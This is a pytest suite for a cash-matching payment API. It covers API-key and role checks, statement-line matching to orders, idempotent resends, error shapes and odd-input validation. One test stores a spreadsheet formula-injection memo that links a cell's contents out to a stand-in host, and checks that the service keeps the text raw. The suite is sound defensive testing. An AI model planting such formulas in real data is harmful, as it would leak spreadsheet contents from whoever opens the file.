"""The API's open routes, keys and roles, POST /v1/match and error shapes."""

from decimal import Decimal

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session, func, select

from models.db import session_scope
from models.tables import Allocation, ReviewTask, StatementLine
from service.app import create_app
from service.settings import Settings

ROLES = ("erp", "clerk", "analyst", "admin")


@pytest.fixture
def settings(database_url, tmp_path, cold_start_dir):
    return Settings(
        database_url=database_url,
        data_dir=tmp_path,
        cold_start_dir=cold_start_dir,
        max_upload_bytes=4096,
    )


@pytest.fixture
def client(settings, engine):
    app = create_app(settings, engine=engine, review_page=False)
    with TestClient(app) as client:
        yield client


def _seed(client, headers):
    customers = [
        {"customer_id": "C1", "name": "恒达机械有限公司", "bank_accounts": ["6222001"]},
        {"customer_id": "C2", "name": "Wrenfield Club", "aliases": ["WRENFIELD"]},
    ]
    orders = [
        {
            "order_id": "SO-9501",
            "customer_id": "C1",
            "order_date": "2025-06-01",
            "amount": "730.00",
            "open_amount": "730.00",
        },
        {
            "order_id": "SO-9502",
            "customer_id": "C1",
            "order_date": "2025-06-02",
            "amount": "410.00",
            "open_amount": "410.00",
        },
    ]
    assert (
        client.put(
            "/v1/customers", headers=headers, json={"customers": customers}
        ).status_code
        == 200
    )
    assert (
        client.put("/v1/orders", headers=headers, json={"orders": orders}).status_code
        == 200
    )


def _line(line_ref="L1", amount="730.00", memo="SO-9501", **extra):
    return {
        "line_ref": line_ref,
        "booking_date": "2025-06-10",
        "amount": amount,
        "memo": memo,
        "counterparty_name": "恒达机械有限公司",
        "counterparty_account": "6222001",
        **extra,
    }


@pytest.mark.parametrize("path", ["/healthz", "/docs", "/openapi.json", "/metrics"])
def test_open_route_needs_no_key(client, path):
    assert client.get(path).status_code == 200


def test_openapi_lists_match_route(client):
    paths = client.get("/openapi.json").json()["paths"]

    assert "/v1/match" in paths
    assert "/v1/review-tasks/{task_id}/decision" in paths


@pytest.mark.parametrize(
    "headers",
    [
        pytest.param({}, id="no-key"),
        pytest.param({"X-API-Key": "cm_not-a-key"}, id="unknown-key"),
        pytest.param({"Authorization": "Basic abc"}, id="wrong-scheme"),
    ],
)
def test_v1_without_valid_key_is_401(client, headers):
    response = client.get("/v1/feed", headers=headers)

    assert response.status_code == 401
    assert response.json()["code"] == "unauthorized"


def test_bearer_token_is_accepted(client, keys):
    token = keys["erp"]["X-API-Key"]

    response = client.get("/v1/feed", headers={"Authorization": f"Bearer {token}"})

    assert response.status_code == 200


def test_revoked_key_is_401(client, keys, engine):
    from service.auth import revoke_api_key

    key = keys["erp"]["X-API-Key"]
    with session_scope(engine) as session:
        revoke_api_key(session, key[:10], actor="test")

    assert client.get("/v1/feed", headers=keys["erp"]).status_code == 401


@pytest.mark.parametrize(
    ("role", "method", "path", "body"),
    [
        pytest.param(
            "analyst", "post", "/v1/match", {"lines": [_line()]}, id="analyst-match"
        ),
        pytest.param(
            "clerk",
            "put",
            "/v1/customers",
            {"customers": [{"customer_id": "C9", "name": "x"}]},
            id="clerk-sync",
        ),
        pytest.param(
            "erp", "post", "/v1/review-tasks/claim-next", None, id="erp-claim"
        ),
        pytest.param(
            "analyst",
            "post",
            "/v1/lines/1/confirm",
            {"version": 1},
            id="analyst-confirm",
        ),
        pytest.param("clerk", "get", "/v1/audit", None, id="clerk-audit"),
    ],
)
def test_role_without_permission_is_403(client, keys, role, method, path, body):
    response = client.request(method, path, headers=keys[role], json=body)

    assert response.status_code == 403
    assert response.json()["code"] == "forbidden"
    assert role in response.json()["detail"]


def test_match_books_referenced_order(client, keys, engine):
    _seed(client, keys["erp"])

    response = client.post("/v1/match", headers=keys["erp"], json={"lines": [_line()]})

    assert response.status_code == 200
    body = response.json()
    assert body["model_version"].startswith("cold-start-")
    line = body["lines"][0]
    assert line["decision"] == "auto"
    assert line["status"] == "allocated"
    assert line["already_stored"] is False
    assert any("SO-9501" in reason for reason in line["reasons"])
    row = line["allocations"][0]
    assert row["order_id"] == "SO-9501"
    assert row["target"] == "order"
    assert row["amount"] == "730.00"
    assert row["decision"] == "auto"
    assert (
        client.get("/v1/orders/SO-9501", headers=keys["erp"]).json()["open_amount"]
        == "0.00"
    )


def test_match_resend_stores_and_books_once(client, keys, engine):
    _seed(client, keys["erp"])
    request = {"lines": [_line()]}

    first = client.post("/v1/match", headers=keys["erp"], json=request).json()
    second = client.post("/v1/match", headers=keys["erp"], json=request).json()

    assert second["lines"][0]["already_stored"] is True
    assert second["lines"][0]["allocations"] == first["lines"][0]["allocations"]
    with Session(engine) as session:
        assert session.exec(select(func.count(StatementLine.id))).one() == 1
        assert session.exec(select(func.count(Allocation.id))).one() == 1


def test_match_same_ref_other_account_is_new_line(client, keys, engine):
    _seed(client, keys["erp"])
    lines = [_line(account="bank-a", memo="x"), _line(account="bank-b", memo="y")]

    body = client.post("/v1/match", headers=keys["erp"], json={"lines": lines}).json()

    assert {line["account"] for line in body["lines"]} == {"bank-a", "bank-b"}
    with Session(engine) as session:
        assert session.exec(select(func.count(StatementLine.id))).one() == 2


def test_match_changed_resend_is_409(client, keys):
    _seed(client, keys["erp"])
    client.post("/v1/match", headers=keys["erp"], json={"lines": [_line()]})

    response = client.post(
        "/v1/match", headers=keys["erp"], json={"lines": [_line(amount="731.00")]}
    )

    assert response.status_code == 409
    assert response.json()["code"] == "line_ref_conflict"


def test_match_dry_run_stores_nothing(client, keys, engine):
    _seed(client, keys["erp"])

    body = client.post(
        "/v1/match", headers=keys["erp"], json={"lines": [_line()], "dry_run": True}
    ).json()

    assert body["dry_run"] is True
    assert body["lines"][0]["allocations"][0]["order_id"] == "SO-9501"
    assert body["lines"][0]["line_id"] is None
    with Session(engine) as session:
        assert session.exec(select(func.count(StatementLine.id))).one() == 0
    assert (
        client.get("/v1/orders/SO-9501", headers=keys["erp"]).json()["open_amount"]
        == "730.00"
    )


def test_match_unknown_payer_opens_review_task(client, keys, engine):
    _seed(client, keys["erp"])
    line = _line(
        amount="55.55",
        memo="货款",
        counterparty_name="某某",
        counterparty_account="999",
    )

    body = client.post("/v1/match", headers=keys["erp"], json={"lines": [line]}).json()

    result = body["lines"][0]
    assert result["decision"] in ("review", "unmatched")
    assert result["allocations"][0]["amount"] == "55.55"
    with Session(engine) as session:
        tasks = session.exec(select(ReviewTask)).all()
    assert len(tasks) == 1
    assert tasks[0].status == "open"


def test_match_keeps_payer_text_raw(client, keys):
    _seed(client, keys["erp"])
    memo = '=HYPERLINK("http://x.invalid/?"&C2,"open")'
    line = _line(memo=memo, amount="12.00")

    body = client.post("/v1/match", headers=keys["erp"], json={"lines": [line]}).json()
    stored = client.get(f"/v1/lines/{body['lines'][0]['line_id']}", headers=keys["erp"])

    assert stored.json()["line"]["memo"] == memo


@pytest.mark.parametrize(
    ("kwargs", "status", "code"),
    [
        pytest.param(
            {"content": b"{bad", "headers": {"Content-Type": "application/json"}},
            400,
            "invalid_json",
            id="bad-json",
        ),
        pytest.param(
            {"json": {"lines": [_line(amount="7.001")]}},
            422,
            "invalid_request",
            id="three-decimals",
        ),
        pytest.param(
            {"json": {"lines": [_line(amount="abc")]}},
            422,
            "invalid_request",
            id="not-a-number",
        ),
        pytest.param(
            {"json": {"lines": [_line(amount="1e2")]}},
            422,
            "invalid_request",
            id="exponent",
        ),
        pytest.param(
            {"json": {"lines": [_line(amount="１２３.００")]}},
            422,
            "invalid_request",
            id="full-width-digits",
        ),
        pytest.param(
            {"json": {"lines": [_line(amount="0.00")]}},
            422,
            "invalid_request",
            id="zero",
        ),
        pytest.param({"json": {"lines": []}}, 422, "invalid_request", id="no-lines"),
        pytest.param(
            {"json": {"lines": [_line(booking_date="2025-13-01")]}},
            422,
            "invalid_request",
            id="bad-date",
        ),
        pytest.param(
            {"json": {"lines": [_line(), _line()]}},
            422,
            "duplicate_line_ref",
            id="duplicate-ref",
        ),
        pytest.param(
            {"json": {"lines": [_line(currency="yuan")]}},
            422,
            "invalid_request",
            id="bad-currency",
        ),
    ],
)
def test_match_bad_input_error_shape(client, keys, kwargs, status, code):
    extra = dict(kwargs)
    headers = {**keys["erp"], **extra.pop("headers", {})}

    response = client.post("/v1/match", headers=headers, **extra)

    assert response.status_code == status
    assert response.json()["code"] == code
    assert response.json()["detail"]


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        pytest.param("get", "/v1/lines/999", 404, id="missing-line"),
        pytest.param("get", "/v1/review-tasks/999", 404, id="missing-task"),
        pytest.param("get", "/v1/customers/NOPE", 404, id="missing-customer"),
        pytest.param("get", "/v1/invoices/NOPE/check", 404, id="missing-invoice"),
        pytest.param("get", "/v1/nothing-here", 404, id="unknown-route"),
        pytest.param("delete", "/v1/match", 405, id="wrong-method"),
        pytest.param("get", "/v1/lines/abc", 422, id="bad-path-id"),
    ],
)
def test_error_has_detail_and_code(client, keys, method, path, status):
    response = client.request(method, path, headers=keys["admin"])

    assert response.status_code == status
    assert set(response.json()) == {"detail", "code"}


def test_body_over_limit_is_413(client, keys):
    lines = [_line(line_ref=f"L{i}", memo="x" * 1000) for i in range(80)]

    response = client.post("/v1/match", headers=keys["erp"], json={"lines": lines})

    assert response.status_code == 413
    assert response.json()["code"] == "payload_too_large"


def test_metrics_counts_lines_and_tasks(client, keys):
    _seed(client, keys["erp"])
    unknown = _line(
        "L2",
        amount="55.55",
        memo="货款",
        counterparty_name="某某",
        counterparty_account="999",
    )
    client.post("/v1/match", headers=keys["erp"], json={"lines": [_line(), unknown]})

    text = client.get("/metrics").text

    assert 'cashmatch_statement_lines{status="allocated",decision="auto"} 1' in text
    assert "cashmatch_review_tasks_open 1" in text
    assert 'cashmatch_unmatched_amount{account="default",currency="CNY"} 55.55' in text
    assert "cashmatch_model_info{version=" in text


def test_money_in_json_is_string(client, keys):
    _seed(client, keys["erp"])

    order = client.get("/v1/orders/SO-9502", headers=keys["erp"]).json()

    assert order["amount"] == "410.00"
    assert Decimal(order["open_amount"]) == Decimal("410.00")


def test_match_concurrent_resends_store_once(client, keys, engine):
    from concurrent.futures import ThreadPoolExecutor

    _seed(client, keys["erp"])
    app = client.app

    def post(_):
        with TestClient(app) as own:
            return own.post("/v1/match", headers=keys["erp"], json={"lines": [_line()]})

    with ThreadPoolExecutor(max_workers=6) as pool:
        responses = list(pool.map(post, range(6)))

    assert [r.status_code for r in responses] == [200] * 6
    assert sum(not r.json()["lines"][0]["already_stored"] for r in responses) == 1
    with Session(engine) as session:
        assert session.exec(select(func.count(StatementLine.id))).one() == 1
        assert session.exec(select(func.count(Allocation.id))).one() == 1


def test_explain_lists_candidates(client, keys):
    _seed(client, keys["erp"])
    body = client.post(
        "/v1/match", headers=keys["erp"], json={"lines": [_line()]}
    ).json()
    line_id = body["lines"][0]["line_id"]

    found = client.get(f"/v1/lines/{line_id}/explain", headers=keys["erp"]).json()

    assert found["decision"] == "auto"
    assert found["candidates"][0]["orders"] == [["SO-9501", "730.00"]]
    assert found["candidates"][0]["reasons"]


BIG = 10**20


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        pytest.param("get", f"/v1/lines/{BIG}", None, id="huge-line-id"),
        pytest.param("get", f"/v1/review-tasks/{BIG}", None, id="huge-task-id"),
        pytest.param("get", f"/v1/feed?cursor={BIG}", None, id="huge-cursor"),
        pytest.param(
            "post", "/v1/lines/1/confirm", {"version": BIG}, id="huge-version"
        ),
        pytest.param(
            "get", "/v1/review-tasks?min_amount=1e400", None, id="huge-filter"
        ),
        pytest.param(
            "post", "/v1/match", {"lines": [_line(amount="1e30")]}, id="huge-amount"
        ),
        pytest.param(
            "post", "/v1/match", {"lines": [_line(amount="NaN")]}, id="nan-amount"
        ),
        pytest.param(
            "post", "/v1/match", {"lines": [_line(memo="a\u0000b")]}, id="nul-memo"
        ),
        pytest.param(
            "put",
            "/v1/orders",
            {
                "orders": [
                    {
                        "order_id": "SO-1",
                        "customer_id": "C1",
                        "order_date": "2025-06-01",
                        "amount": "-5.00",
                        "open_amount": "-5.00",
                    }
                ]
            },
            id="negative-order",
        ),
    ],
)
def test_odd_input_is_422(client, keys, method, path, body):
    response = client.request(method, path, headers=keys["admin"], json=body)

    assert response.status_code == 422
    assert response.json()["code"] == "invalid_request"


def test_nul_in_path_is_not_500(client, keys):
    response = client.get("/v1/customers/%00", headers=keys["admin"])

    assert response.status_code in (404, 422)
    assert response.json()["code"] in ("customer_not_found", "invalid_value")
